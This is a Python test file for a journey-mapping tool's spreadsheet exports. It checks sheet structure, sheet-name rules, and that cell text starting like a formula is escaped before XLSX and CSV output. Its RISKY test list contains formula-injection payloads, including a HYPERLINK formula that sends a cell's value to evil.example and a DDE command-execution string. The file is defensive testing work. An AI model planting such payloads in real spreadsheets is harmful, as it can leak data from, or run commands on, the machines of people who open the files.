"""The XLSX and CSV grid exports: sheets, fields, valid sheet names, no formula injection."""

from __future__ import annotations

import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from journeymap.maps.grid_format import FORMULA_STARTS, neutralise, unneutralise
from journeymap.maps.import_grid import read_grid
from journeymap.maps.items import item_text
from journeymap.maps.model import JourneyMap
from journeymap.maps.schema import parse_map
from journeymap.render.map_csv import write_grid_csv
from journeymap.render.map_xlsx import sheet_name, write_map_xlsx

RISKY = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-x",
         "@SUM(1+1)", "\tTAB", "\rCR", "＝1+1", "'=already quoted"]


def injection_map() -> JourneyMap:
    """A map whose title, stage, lane, label and texts all start like a formula."""
    return parse_map({
        "title": "@title", "language": "en", "owner": "=owner", "scenario": "-scenario",
        "goals": ["+goal"], "personas": [{"name": "=persona", "description": "@d"}],
        "stages": [{"name": "+stage"}, {"name": "Plain"}],
        "lanes": [{"name": "=lane", "kind": "actions"},
                  {"name": "Emotions", "kind": "emotions"},
                  {"name": "Pain points", "kind": "pain_points"}],
        "cells": [
            {"stage": "+stage", "lane": "=lane",
             "items": [{"kind": "text", "text": text} for text in RISKY]},
            {"stage": "Plain", "lane": "=lane", "items": [{"kind": "text", "text": "-y"}]},
            {"stage": "+stage", "lane": "Emotions",
             "items": [{"kind": "emotion", "score": -1, "label": "=label"}]},
            {"stage": "+stage", "lane": "Pain points",
             "items": [{"kind": "pain_point", "text": "@pain", "severity": 4}]},
        ],
    })


def test_workbook_has_grid_lane_and_info_sheets(korean_map: JourneyMap, tmp_path: Path):
    out = write_map_xlsx(korean_map, tmp_path / "map.xlsx")
    book = load_workbook(out)
    lanes = [lane.name for lane in korean_map.lanes]
    assert book.sheetnames == ["Map", *lanes, "Map info"]
    grid = book["Map"]
    assert grid.freeze_panes == "B2"
    assert [c.value for c in grid[1]] == ["B2B 구매 여정", "인지", "고려", "결정"]
    assert [grid.cell(r, 1).value for r in range(2, 10)] == lanes
    assert grid["B2"].value == "인지 단계에서 자료를 찾는다"
    assert grid["B2"].alignment.wrap_text
    assert grid["B1"].font.bold
    assert grid["C6"].value == "'-1 기대"  # the emotion text, neutralised
    assert grid["B3"].value == "web:0 (web)"


def test_cell_items_are_joined_by_newlines(english_map: JourneyMap, tmp_path: Path):
    doc = english_map.model_copy(deep=True)
    doc.cell("Awareness", "Actions").items.append(
        parse_map({"title": "t", "stages": [{"name": "s"}], "lanes": [{"name": "l"}],
                   "cells": [{"stage": "s", "lane": "l",
                              "items": [{"kind": "text", "text": "two\nlines"}]}]}
                  ).cells[0].items[0])
    book = load_workbook(write_map_xlsx(doc, tmp_path / "map.xlsx"))
    assert book["Map"]["B2"].value == "Looks for material in Awareness\ntwo lines"


def test_lane_sheets_hold_every_field(korean_map: JourneyMap, tmp_path: Path):
    book = load_workbook(write_map_xlsx(korean_map, tmp_path / "map.xlsx"))
    emotions = book["감정"]
    assert [c.value for c in emotions[1]] == ["단계", "종류", "내용", "점수", "라벨",
                                             "연결 지표", "연결 값", "갱신 시각 (UTC)", "변화"]
    assert [c.value for c in emotions["D"][1:]] == [1, -1, -2]
    assert emotions["D3"].data_type == "n"  # scores stay numbers
    opportunities = [c.value for c in book["기회"][2]]
    assert opportunities == ["인지", "opportunity", "챗봇", 4, 2, "cx", "planned", None]
    kpi = {h.value: c.value for h, c in zip(book["KPI"][1], book["KPI"][2], strict=True)}
    assert kpi["연결 지표"] == "stage.conversion"
    assert kpi["값"] == pytest.approx(0.1)
    assert kpi["단위"] == "%"
    assert kpi["갱신 시각 (UTC)"] == datetime(2026, 11, 1)
    assert book["KPI"]["D2"].number_format == "0.0%"
    pains = {h.value: c.value for h, c in zip(book["불편"][1], book["불편"][2], strict=True)}
    assert pains["심각도"] == 3


def test_info_sheet(english_map: JourneyMap, tmp_path: Path):
    book = load_workbook(write_map_xlsx(english_map, tmp_path / "map.xlsx"))
    rows = [[c for c in row] for row in book["Map info"].iter_rows(values_only=True)]
    fields = {row[0]: row[1] for row in rows[:7]}
    assert fields["Title"] == "B2B purchase journey"
    assert fields["Type"] == "current_state"
    assert fields["Language"] == "en"
    assert fields["Owner"] == "cx-team"
    assert fields["Goals"] == "Improve conversion"
    assert ["Personas", "Description", "Goals", "Segment"] in [list(r[:4]) for r in rows]
    assert ["Lanes", "Kind"] in [list(r[:2]) for r in rows]
    assert ["Line of visibility", "line_of_visibility"] not in [list(r[:2]) for r in rows]
    assert ["Emotions", "emotions"] in [list(r[:2]) for r in rows]


def test_blueprint_skips_the_visibility_sheet(blueprint_map: JourneyMap, tmp_path: Path):
    book = load_workbook(write_map_xlsx(blueprint_map, tmp_path / "map.xlsx"))
    assert "Line of visibility" not in book.sheetnames
    assert "Backstage" in book.sheetnames
    grid = book["Map"]
    assert "Line of visibility" in [grid.cell(r, 1).value for r in range(2, grid.max_row + 1)]


@pytest.mark.parametrize("name, expected", [
    ("Pain/points?", "Pain points"),
    ("[a]:*b\\", "a   b"),
    ("x" * 40, "x" * 31),
    ("'quoted'", "quoted"),
    ("History", "History lane"),
    ("", "Lane"),
    ("map", "map (2)"),
])
def test_sheet_names_are_valid(name: str, expected: str):
    assert sheet_name(name, {"map", "map info"}) == expected


def test_sheet_names_are_unique_within_31_characters():
    taken: set[str] = set()
    names = [sheet_name("y" * 40, taken) for _ in range(3)]
    assert names == ["y" * 31, "y" * 27 + " (2)", "y" * 27 + " (3)"]
    assert all(len(n) <= 31 for n in names)


def test_lane_sheet_names_in_a_workbook(tmp_path: Path):
    doc = parse_map({"title": "t", "stages": [{"name": "s"}],
                     "lanes": [{"name": "Map"}, {"name": "A/B"}, {"name": "A?B"},
                               {"name": "감정 " * 12}]})
    book = load_workbook(write_map_xlsx(doc, tmp_path / "map.xlsx"))
    assert book.sheetnames[:4] == ["Map", "Map (2)", "A B", "A B (2)"]
    assert all(len(n) <= 31 for n in book.sheetnames)


@pytest.mark.parametrize("value", RISKY)
def test_neutralise_round_trips(value: str):
    safe = neutralise(value)
    assert safe.startswith("'") and not safe.startswith(FORMULA_STARTS)
    assert unneutralise(safe) == value


def test_numbers_and_plain_text_are_left_alone():
    assert neutralise(-1) == -1
    assert neutralise(0.5) == 0.5
    assert neutralise("plain") == "plain"
    assert unneutralise("'plain") == "'plain"


def test_no_cell_is_a_formula(tmp_path: Path):
    out = write_map_xlsx(injection_map(), tmp_path / "map.xlsx")
    with zipfile.ZipFile(out) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name)
    book = load_workbook(out)
    strings = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)
                if isinstance(cell.value, str):
                    strings.append(cell.value)
    assert all(not s.startswith(FORMULA_STARTS) for s in strings)
    grid = book["Map"]
    assert grid["A1"].value == "'@title"
    assert grid["B1"].value == "'+stage"
    assert grid["A2"].value == "'=lane"
    assert grid["B2"].value.startswith("'=HYPERLINK(")
    assert grid["C2"].value == "'-y"
    assert book["Emotions"]["D2"].value == -1  # a score is a number, not "'-1"
    assert book["Emotions"]["E2"].value == "'=label"


def test_calamine_reads_text_not_formulas(tmp_path: Path):
    out = write_map_xlsx(injection_map(), tmp_path / "map.xlsx")
    book = CalamineWorkbook.from_path(str(out))
    grid = book.get_sheet_by_name("Map").to_python(skip_empty_area=False)
    assert grid[0][:2] == ["'@title", "'+stage"]
    assert grid[1][1].split("\n")[0] == "'" + RISKY[0]
    assert grid[1][2] == "'-y"
    for name in book.sheet_names:
        for row in book.get_sheet_by_name(name).to_python(skip_empty_area=False):
            for value in row:
                assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS))
    emotions = book.get_sheet_by_name("Emotions").to_python(skip_empty_area=False)
    assert emotions[1][3] == -1


def test_injection_map_round_trips(tmp_path: Path):
    doc = injection_map()
    for out in (write_map_xlsx(doc, tmp_path / "map.xlsx"),
                write_grid_csv(doc, tmp_path / "map.csv")):
        back = read_grid(out)
        assert back.title == "@title"
        assert [s.name for s in back.stages] == ["+stage", "Plain"]
        assert back.lanes[0].name == "=lane"
        assert [item_text(i) for i in back.items("+stage", "=lane")] == [
            r.replace("\t", "").replace("\r", "") if r in ("\tTAB", "\rCR") else r
            for r in RISKY]
        assert [item_text(i) for i in back.items("+stage", "Emotions")] == ["-1 =label"]


def test_csv_grid_has_a_bom_and_neutralised_cells(korean_map: JourneyMap, tmp_path: Path):
    out = write_grid_csv(korean_map, tmp_path / "map.csv")
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == "B2B 구매 여정,인지,고려,결정"
    assert "감정,'+1 기대,'-1 기대,'-2 기대" in text
    csv_injection = write_grid_csv(injection_map(), tmp_path / "inj.csv").read_text("utf-8-sig")
    assert csv_injection.startswith("'@title,'+stage,Plain")
